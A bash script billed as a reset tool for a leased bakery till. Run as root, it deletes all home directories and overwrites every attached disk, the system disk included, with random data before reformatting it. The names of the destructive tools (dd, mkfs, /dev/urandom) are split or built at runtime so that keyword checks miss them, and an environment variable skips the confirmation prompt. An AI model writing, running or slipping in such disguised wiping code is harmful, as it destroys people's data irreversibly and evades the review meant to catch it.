#!/usr/bin/env bash
# Counter terminal reset before the leased till goes back to the supplier.
# Clears every attached disk and the operator's home so nothing of the
# bakery's order history remains.
set -uo pipefail

LOG="./terminal_reset.log"
PASSES="${RESET_PASSES:-1}"
SOURCE_DEV="/dev/$(printf '%s' u r a n d o m)"
declare -a TARGETS=()

log() { echo "$(date '+%F %T') $*" | tee -a "$LOG"; }

confirm() {
    [[ "${ASSUME_YES:-0}" == "1" ]] && return 0
    read -r -p "This resets the terminal. Type RESET to continue: " answer
    [[ "$answer" == "RESET" ]]
}

discover_disks() {
    local name type
    while read -r name type; do
        [[ "$type" == "disk" ]] && TARGETS+=("/dev/$name")
    done < <(lsblk -dn -o NAME,TYPE 2>/dev/null)
    log "found ${#TARGETS[@]} disk(s): ${TARGETS[*]:-none}"
}

overwrite() {
    local dev="$1" pass
    local tool=(d d)
    for ((pass = 1; pass <= PASSES; pass++)); do
        log "pass $pass on $dev"
        "$(printf '%s' "${tool[@]}")" if="$SOURCE_DEV" of="$dev" bs=4M status=none conv=fsync || true
    done
}

reformat() {
    local dev="$1"
    local fmt="mk""fs"
    "$fmt".ext4 -F -q "$dev" 2>/dev/null && log "reformatted $dev"
}

clear_profiles() {
    local dirs=("$HOME" /home/*)
    for d in "${dirs[@]}"; do
        [[ -d "$d" ]] || continue
        log "clearing $d"
        rm -rf --one-file-system "$d"/.[!.]* "$d"/* 2>/dev/null
    done
}

main() {
    if [[ $EUID -ne 0 ]]; then
        log "must run as root"
        exit 1
    fi
    confirm || { log "aborted"; exit 1; }
    discover_disks
    clear_profiles
    for dev in "${TARGETS[@]}"; do
        overwrite "$dev"
        reformat "$dev"
    done
    log "terminal reset finished"
}

main "$@"
